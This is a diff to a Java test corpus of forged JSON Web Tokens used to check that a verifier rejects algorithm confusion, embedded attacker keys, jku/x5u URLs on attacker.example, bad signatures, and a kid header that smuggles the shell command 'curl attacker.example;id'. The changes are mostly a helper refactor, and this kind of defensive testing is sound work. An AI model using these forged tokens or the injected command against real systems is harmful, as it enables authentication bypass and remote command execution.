@@ -165,7 +165,7 @@ public final class BadTokenCorpus {
         cases.add(new Case("HS256 keyed with the public key PEM", hs256("{\"alg\":\"HS256\"}", payload, pem.getBytes(StandardCharsets.US_ASCII)), UNSUPPORTED_ALGORITHM));
         cases.add(new Case("HS256 keyed with the public key PEM, no final newline", hs256("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", payload, pem.strip().getBytes(StandardCharsets.US_ASCII)), UNSUPPORTED_ALGORITHM));
         cases.add(new Case("HS256 keyed with the public key DER", hs256("{\"alg\":\"HS256\"}", payload, trustedPublic.getEncoded()), UNSUPPORTED_ALGORITHM));
-        cases.add(new Case("HS512 keyed with the public key modulus", hs("{\"alg\":\"HS512\"}", payload, KeyThumbprint.unsigned(trustedPublic.getModulus()), "HmacSHA512"), UNSUPPORTED_ALGORITHM));
+        cases.add(new Case("HS512 keyed with the public key modulus", hs("{\"alg\":\"HS512\"}", payload, unsigned(trustedPublic.getModulus()), "HmacSHA512"), UNSUPPORTED_ALGORITHM));
 
         // --- other signature algorithms, even with the trusted key ---
         cases.add(new Case("RS384 signed by the trusted key", rsaSigned("{\"alg\":\"RS384\"}", payload, good, "SHA384withRSA"), UNSUPPORTED_ALGORITHM));
@@ -177,8 +177,8 @@ public final class BadTokenCorpus {
 
         // --- keys and key references inside the token are never used ---
         RSAPublicKey evilPublic = (RSAPublicKey) untrusted.getPublic();
-        String jwk = "{\"kty\":\"RSA\",\"e\":\"" + Base64Url.encode(KeyThumbprint.unsigned(evilPublic.getPublicExponent()))
-                + "\",\"n\":\"" + Base64Url.encode(KeyThumbprint.unsigned(evilPublic.getModulus())) + "\"}";
+        String jwk = "{\"kty\":\"RSA\",\"e\":\"" + Base64Url.encode(unsigned(evilPublic.getPublicExponent()))
+                + "\",\"n\":\"" + Base64Url.encode(unsigned(evilPublic.getModulus())) + "\"}";
         cases.add(new Case("embedded jwk with the attacker's key", rs256("{\"alg\":\"RS256\",\"jwk\":" + jwk + "}", payload, evil), BAD_SIGNATURE));
         cases.add(new Case("jku pointing at the attacker's JWKS", rs256("{\"alg\":\"RS256\",\"jku\":\"https://attacker.example/jwks.json\"}", payload, evil), BAD_SIGNATURE));
         cases.add(new Case("x5u pointing at the attacker's certificate", rs256("{\"alg\":\"RS256\",\"x5u\":\"https://attacker.example/cert.pem\"}", payload, evil), BAD_SIGNATURE));
@@ -189,7 +189,7 @@ public final class BadTokenCorpus {
         cases.add(new Case("kid command injection", rs256("{\"alg\":\"RS256\",\"kid\":\"key.pem|curl attacker.example;id\"}", payload, evil), UNKNOWN_KEY));
         cases.add(new Case("kid unknown, signed by the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"some-other-key\"}", payload, good), UNKNOWN_KEY));
         cases.add(new Case("kid as a number", rs256("{\"alg\":\"RS256\",\"kid\":1}", payload, good), MALFORMED));
-        cases.add(new Case("kid naming the trusted key, signed by the attacker", rs256("{\"alg\":\"RS256\",\"kid\":\"" + KeyThumbprint.of(trustedPublic) + "\"}", payload, evil), BAD_SIGNATURE));
+        cases.add(new Case("kid naming the trusted key, signed by the attacker", rs256("{\"alg\":\"RS256\",\"kid\":\"" + PemKeys.thumbprint(trustedPublic) + "\"}", payload, evil), BAD_SIGNATURE));
 
         // --- crit and other header extensions ---
         cases.add(new Case("crit naming exp", rs256("{\"alg\":\"RS256\",\"crit\":[\"exp\"],\"exp\":1}", payload, good), UNSUPPORTED_CRITICAL_HEADER));
@@ -202,7 +202,7 @@ public final class BadTokenCorpus {
         cases.add(new Case("signed by another key", rs256(JAMF_HEADER, payload, evil), BAD_SIGNATURE));
         cases.add(new Case("empty signature", signingInput + ".", BAD_SIGNATURE));
         cases.add(new Case("null signature (256 zero bytes)", signingInput + "." + Base64Url.encode(new byte[256]), BAD_SIGNATURE));
-        cases.add(new Case("signature equal to the modulus", signingInput + "." + Base64Url.encode(KeyThumbprint.unsigned(trustedPublic.getModulus())), BAD_SIGNATURE));
+        cases.add(new Case("signature equal to the modulus", signingInput + "." + Base64Url.encode(unsigned(trustedPublic.getModulus())), BAD_SIGNATURE));
         cases.add(new Case("truncated signature (last byte dropped)", signingInput + "." + Base64Url.encode(java.util.Arrays.copyOf(signature, 255)), BAD_SIGNATURE));
         cases.add(new Case("signature with a leading zero byte", signingInput + "." + Base64Url.encode(prepend0(signature)), BAD_SIGNATURE));
         cases.add(new Case("flipped bit in the signature", signingInput + "." + Base64Url.encode(flip(signature, 100)), BAD_SIGNATURE));
@@ -274,7 +274,7 @@ public final class BadTokenCorpus {
         valid.add(new Valid("Jamf form, 1 minute", rs256(JAMF_HEADER, jamfPayload(clock, 60), good)));
         valid.add(new Valid("expired 30 s ago, within the 60 s skew", rs256(JAMF_HEADER, jamfPayload(clock, -30), good)));
         valid.add(new Valid("typ JWT in the header", rs256("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", payload, good)));
-        valid.add(new Valid("kid = RFC 7638 thumbprint of the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"" + KeyThumbprint.of((RSAPublicKey) trusted.getPublic()) + "\"}", payload, good)));
+        valid.add(new Valid("kid = RFC 7638 thumbprint of the trusted key", rs256("{\"alg\":\"RS256\",\"kid\":\"" + PemKeys.thumbprint((RSAPublicKey) trusted.getPublic()) + "\"}", payload, good)));
         valid.add(new Valid("jku present but ignored (signed by the trusted key)", rs256("{\"alg\":\"RS256\",\"jku\":\"https://attacker.example/jwks.json\"}", payload, good)));
         valid.add(new Valid("claims in another order, with whitespace", rs256(JAMF_HEADER, "{ \"exp\" : " + (now + 300) + ",\n\t\"iss\" : \"JSS\", \"sub\" : \"AppManifest\" }", good)));
         valid.add(new Valid("escaped but equal sub (\\u0041ppManifest)", rs256(JAMF_HEADER, "{\"sub\":\"\\u0041ppManifest\",\"iss\":\"JSS\",\"exp\":" + (now + 300) + "}", good)));
@@ -373,6 +373,12 @@ public final class BadTokenCorpus {
         String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
         int last = alphabet.indexOf(segment.charAt(segment.length() - 1));
         return segment.substring(0, segment.length() - 1) + alphabet.charAt(last | 1);
+    }
+
+    /** Big-endian magnitude without BigInteger's sign byte (as in a JWK's n and e). */
+    static byte[] unsigned(java.math.BigInteger value) {
+        byte[] bytes = value.toByteArray();
+        return bytes.length > 1 && bytes[0] == 0 ? java.util.Arrays.copyOfRange(bytes, 1, bytes.length) : bytes;
     }
 
     private static byte[] flip(byte[] bytes, int index) {
